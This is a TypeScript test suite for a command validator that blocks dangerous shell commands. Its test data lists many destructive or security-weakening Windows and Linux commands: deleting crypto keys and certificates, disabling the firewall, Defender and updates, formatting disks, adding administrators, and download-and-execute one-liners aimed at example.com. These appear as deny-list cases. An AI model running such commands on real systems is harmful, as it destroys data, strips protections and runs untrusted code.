import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { type CommandWindow, findCommandFaults } from "../../../knowledge/proof/commandFaults.ts";

const shells: Record<string, CommandWindow> = { cmd: "command-prompt", ps: "powershell-admin", sh: "linux-shell" };

function listForbidden(run: string, window: CommandWindow, undo?: string): string[] {
  const back = undo === undefined ? undefined : { run: undo, window };
  return findCommandFaults({ run, window }, { undo: back }).filter((fault) => fault.includes(" is forbidden: it "));
}

/** A line begins with the shell that it is for. */
function readLines(lines: string): [string, CommandWindow][] {
  return lines
    .trim()
    .split("\n")
    .map((line) => /^\s*(cmd|ps|sh)\s+(.*)$/.exec(line) ?? [])
    .map(([, shell = "", run = ""]) => [run.replaceAll(" // ", "\n"), shells[shell] ?? "command-prompt"]);
}

const folder = "C:\\ProgramData\\Microsoft\\Crypto\\RSA\\MachineKeys";
const rdpKey = "f686aace6942fb7f7ceb231212eef4a4_*";
const rdp = "Control\\Terminal Server\\WinStations\\RDP-Tcp";
const schannel = "SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\SCHANNEL\\Protocols";

const forbidden: Record<string, [why: string, lines: string]> = {
  "the folder MachineKeys": [
    "takes away the folder MachineKeys",
    `cmd rmdir /s /q ${folder}
     cmd rd /s "${folder}"
     cmd rd/s/q %ProgramData%\\Microsoft\\Crypto\\RSA\\MachineKeys
     cmd del /q ${folder}
     cmd del ${folder}\\*
     cmd erase "${folder}\\*.*"
     cmd del ${folder}\\f*
     cmd ren ${folder} MachineKeys.old
     cmd rename "${folder}" old
     cmd move ${folder} D:\\
     cmd move "${folder}\\*" D:\\
     cmd cd /d C:\\ProgramData\\Microsoft\\Crypto\\RSA // ren MachineKeys old
     cmd pushd ${folder} & del /q *
     cmd for %f in (${folder}\\*) do del "%f"
     cmd if exist ${folder} rd /s ${folder}
     cmd robocopy C:\\Empty ${folder} /mir
     cmd forfiles /p ${folder} /c "cmd /c del @path"
     cmd cmd /c rd /s ${folder}
     cmd start "" /wait cmd /c rd /s ${folder}
     cmd powershell -Command "Remove-Item '${folder}' -Recurse"
     cmd rd /s C:\\ProgramData\\Microsoft\\Crypto
     cmd rd /s C:\\PROGRA~3\\MICROS~1\\Crypto\\RSA\\MACHIN~1
     cmd rd /s "C:\\Documents and Settings\\All Users\\Application Data\\Microsoft\\Crypto\\RSA\\MachineKeys"
     cmd rd /s ${folder.replaceAll("\\", "/")}
     ps  Remove-Item ${folder} -Recurse -Force
     ps  Remove-Item -Recurse -LiteralPath '${folder}'
     ps  ri "$env:ProgramData\\Microsoft\\Crypto\\RSA\\MachineKeys\\*"
     ps  rm -r $env:ALLUSERSPROFILE\\Microsoft\\Crypto\\RSA\\MachineKeys
     ps  Rename-Item ${folder} MachineKeys.old
     ps  rni -Path ${folder} -NewName old
     ps  Move-Item -Path ${folder} -Destination D:\\
     ps  mv ${folder}\\* D:\\
     ps  Clear-Item ${folder}
     ps  Get-ChildItem ${folder} | Remove-Item
     ps  Get-ChildItem ${folder} | ForEach-Object { del $_.FullName -Force }
     ps  foreach ($key in Get-ChildItem ${folder}) { Remove-Item $key }
     ps  $keys = '${folder}'; Remove-Item "$keys\\*"
     ps  $keys = Get-Item ${folder}; $keys.Delete($true)
     ps  [IO.Directory]::Delete('${folder}', $true)
     ps  [System.IO.Directory]::Move('${folder}', 'C:\\Old')
     ps  Set-Location ${folder}; Remove-Item *
     ps  Remove-Item (Join-Path $env:ProgramData 'Microsoft\\Crypto\\RSA\\MachineKeys')
     ps  Get-Item C:\\ProgramData\\Microsoft\\Crypto\\RSA\\Machine* | Rename-Item -NewName old
     ps  cmd /c "rd /s /q ${folder}"
     ps  Start-Process cmd -ArgumentList '/c','rd','/s','${folder}' -Verb RunAs
     ps  Invoke-Command -ScriptBlock { Remove-Item ${folder} }`,
  ],
  "a certificate of LocalMachine\\My": [
    "deletes a certificate from LocalMachine\\My",
    `ps  Remove-Item Cert:\\LocalMachine\\My\\0123 -DeleteKey
     ps  Get-ChildItem Cert:\\LocalMachine\\My | Where-Object Subject -like 'CN=a*' | Remove-Item
     ps  gci Cert:\\LocalMachine -Recurse | ri
     ps  Set-Location Cert:\\LocalMachine\\My; del 0123
     ps  Move-Item Cert:\\LocalMachine\\My\\0123 Cert:\\LocalMachine\\Root
     ps  $store = New-Object System.Security.Cryptography.X509Certificates.X509Store 'My','LocalMachine'; $store.Remove($c)
     cmd certutil -delstore My 0123
     cmd certutil.exe /delstore my 0123`,
  ],
  "the firewall": [
    "switches the firewall off",
    `cmd netsh advfirewall set allprofiles state off
     cmd NETSH ADVFIREWALL SET CURRENTPROFILE STATE OFF
     cmd netsh adv set publicp state off
     cmd netsh firewall set opmode disable
     cmd net stop mpssvc
     cmd sc config MpsSvc start= disabled
     cmd reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\WindowsFirewall\\StandardProfile /v EnableFirewall /t REG_DWORD /d 0x0 /f
     ps  Set-NetFirewallProfile -Enabled False
     ps  Set-NetFirewallProfile -Profile Domain,Public -Enabled:$false
     ps  Get-NetFirewallProfile | Set-NetFirewallProfile -En False
     ps  Stop-Service MpsSvc -Force
     ps  Get-Service mpssvc | Set-Service -StartupType Disabled
     ps  netsh advfirewall set allprofiles state off
     sh  sudo ufw disable
     sh  systemctl disable --now firewalld`,
  ],
  "Network Level Authentication without an undo": [
    "switches Network Level Authentication off without an undo",
    `cmd reg add "HKLM\\SYSTEM\\CurrentControlSet\\${rdp}" /v UserAuthentication /t REG_DWORD /d 0 /f
     cmd reg.exe add "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\${rdp}" /d 0x00000000 /v userauthentication /t REG_DWORD /f
     ps  Set-ItemProperty "HKLM:\\SYSTEM\\CurrentControlSet\\${rdp}" -Name UserAuthentication -Value 0
     ps  sp "HKLM:\\SYSTEM\\CurrentControlSet\\${rdp}" UserAuthentication 0
     ps  New-ItemProperty -Path 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\Terminal Services' -Name UserAuthentication -Value 0
     ps  (Get-CimInstance Win32_TSGeneralSetting).SetUserAuthenticationRequired(0)
     ps  Invoke-CimMethod -InputObject $rdp -MethodName SetUserAuthenticationRequired -Arguments @{UserAuthenticationRequired=0}
     ps  Set-RDSessionCollectionConfiguration -CollectionName a -AuthenticateUsingNLA $false`,
  ],
  "old versions of TLS": [
    "switches an old TLS or SSL on",
    `cmd reg add "HKLM\\${schannel}\\TLS 1.0\\Server" /v Enabled /t REG_DWORD /d 1 /f
     cmd reg add "HKLM\\${schannel}\\TLS 1.1\\Client" /v Enabled /t REG_DWORD /d 0xffffffff /f
     cmd reg add "HKLM\\${schannel}\\SSL 3.0\\Server" /v DisabledByDefault /t REG_DWORD /d 0 /f
     ps  Set-ItemProperty 'HKLM:\\${schannel}\\TLS 1.0\\Server' Enabled 1
     ps  New-ItemProperty -Path 'HKLM:\\${schannel}\\SSL 2.0\\Client' -Name Enabled -Value 1 -PropertyType DWord`,
  ],
  Defender: [
    "Defender",
    `cmd reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
     cmd sc stop WinDefend
     cmd dism /online /disable-feature /featurename:Windows-Defender
     ps  Set-MpPreference -DisableRealtimeMonitoring $true
     ps  Set-MpPreference -DisableRealtime 1
     ps  Uninstall-WindowsFeature Windows-Defender`,
  ],
  "Windows Update": [
    "stops Windows from updating itself",
    `cmd sc config wuauserv start= disabled
     cmd net stop wuauserv
     cmd reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU /v NoAutoUpdate /t REG_DWORD /d 1 /f
     ps  Stop-Service wuauserv
     ps  Set-Service -Name UsoSvc -StartupType Disabled`,
  ],
  "disks and the start of Windows": [
    "(can erase a disk|changes how Windows starts)",
    `cmd format C: /q
     cmd diskpart
     cmd bcdedit /set safeboot minimal
     cmd C:\\Windows\\System32\\BCDEDIT.EXE /deletevalue safeboot
     ps  Clear-Disk -Number 0 -RemoveData
     ps  Get-Volume C | Format-Volume
     ps  bcdedit.exe /enum
     sh  sudo mkfs.ext4 /dev/sda1`,
  ],
  "downloads that run": [
    "(runs text as a program|fetches a program|runs what it has fetched|hides what it runs)",
    `ps  iex (New-Object Net.WebClient).DownloadString('https://example.com/a.ps1')
     ps  Invoke-Expression $text
     ps  iwr https://example.com/a.ps1 | iex
     ps  irm https://example.com | powershell
     ps  & ([scriptblock]::Create((irm https://example.com)))
     ps  powershell -EncodedCommand SQBFAFgA
     cmd powershell -nop -e SQBFAFgA
     cmd powershell "iex (iwr https://example.com)"
     cmd certutil -urlcache -f https://example.com/a.exe a.exe
     cmd mshta https://example.com
     cmd bitsadmin /transfer a https://example.com/a.exe C:\\a.exe
     sh  curl -s https://example.com | sudo bash`,
  ],
  "new administrators": [
    "makes an account an administrator",
    `ps  Add-LocalGroupMember -Group Administrators -Member {user}
     ps  Add-LocalGroupMember Administrators {user}
     ps  Add-LocalGroupMember -SID S-1-5-32-544 -Member {user}
     cmd net localgroup Administrators {user} /add
     cmd net1 localgroup "Administrators" "{user}" /ADD
     sh  sudo usermod -aG sudo {user}`,
  ],
};

describe.each(Object.entries(forbidden))("%s", (_, [why, lines]) => {
  test.each(readLines(lines))("is protected from %s", (run, window) => {
    expect(listForbidden(run, window)[0]).toMatch(new RegExp(` is forbidden: it .*${why.replaceAll("\\", "\\\\")}`));
  });
});

test.each(
  readLines(`
    cmd takeown /f "${folder}\\${rdpKey}" /a
    cmd icacls "${folder}\\${rdpKey}" /grant "*S-1-5-20:(R)"
    cmd move "${folder}\\${rdpKey}" C:\\RdpBackup
    cmd move C:\\RdpBackup\\${rdpKey} ${folder}
    cmd dir ${folder} & rd /s C:\\RdpBackup
    cmd certutil -user -delstore My 0123
    cmd netsh advfirewall set allprofiles state on
    cmd net start mpssvc
    cmd net localgroup Administrators
    cmd reg add "HKLM\\${schannel}\\TLS 1.2\\Server" /v Enabled /t REG_DWORD /d 1 /f
    cmd reg add "HKLM\\${schannel}\\TLS 1.0\\Server" /v Enabled /t REG_DWORD /d 0 /f
    cmd reg add "HKLM\\${schannel}\\TLS 1.0\\Server" /v Enabled /t REG_DWORD /d {old} /f
    ps  Move-Item '${folder}\\${rdpKey}' C:\\RdpBackup\\old-key
    ps  if (-not (Test-Path '${folder}\\${rdpKey}')) { Move-Item C:\\RdpBackup\\f686aace* '${folder}' }
    ps  Get-ChildItem 'Cert:\\LocalMachine\\Remote Desktop' | Remove-Item
    ps  Get-ChildItem Cert:\\LocalMachine\\My | Format-List Subject
    ps  Get-NetFirewallRule -Group '@FirewallAPI.dll,-28752' | Set-NetFirewallRule -Enabled True
    ps  Get-Service wuauserv | Restart-Service
    sh  sudo adduser xrdp ssl-cert
    sh  curl -s https://example.com | less`),
)("a harmless relative stays allowed: %s", (run, window) => {
  expect(listForbidden(run, window)).toEqual([]);
});

describe("an undo that puts it back allows", () => {
  const off = `reg add "HKLM\\SYSTEM\\CurrentControlSet\\${rdp}" /v UserAuthentication /t REG_DWORD /d 0 /f`;
  const back = (value: string) => off.replace("/d 0", `/d ${value}`);

  test("switching Network Level Authentication off for a test", () => {
    expect(listForbidden(off, "command-prompt", back("{old-nla}"))).toEqual([]);
    expect(listForbidden(off, "command-prompt", back("1"))).toEqual([]);
    expect(listForbidden(off, "command-prompt", "reg import C:\\RdpBackup\\rdp.reg")).toEqual([]);
  });

  test("nothing if it sets another value, the same value, or deletes it", () => {
    for (const undo of [back("0"), back("0x0"), back("1").replace("UserAuthentication", "SecurityLayer"), "ipconfig"])
      expect(listForbidden(off, "command-prompt", undo)).toHaveLength(1);
    expect(listForbidden(off, "command-prompt", off.replace("add", "delete").replace(/ \/t.*\/d 0/, ""))).toHaveLength(
      1,
    );
  });

  test("pausing Defender, but never switching the firewall off", () => {
    const pause = "Set-MpPreference -DisableRealtimeMonitoring $true";
    expect(listForbidden(pause, "powershell-admin", pause.replace("true", "false"))).toEqual([]);
    expect(listForbidden(pause, "powershell-admin", pause)).toHaveLength(1);
    const firewall = "netsh advfirewall set allprofiles state off";
    expect(listForbidden(firewall, "command-prompt", firewall.replace("off", "on"))).toHaveLength(1);
  });
});

test("capitals and blanks around a command change nothing", () => {
  const lines = Object.values(forbidden).flatMap(([, lines]) => readLines(lines));
  const windowsLines = lines.filter(([run, window]) => window !== "linux-shell" && !/-e|SID|@path/i.test(run));
  fc.assert(
    fc.property(fc.constantFrom(...windowsLines), fc.func(fc.boolean()), fc.nat(3), ([run, window], upper, blanks) => {
      const mixed = [...run].map((letter, at) => (upper(at) ? letter.toUpperCase() : letter.toLowerCase())).join("");
      expect(listForbidden(" ".repeat(blanks) + mixed, window)).not.toEqual([]);
    }),
    { numRuns: 300 },
  );
});
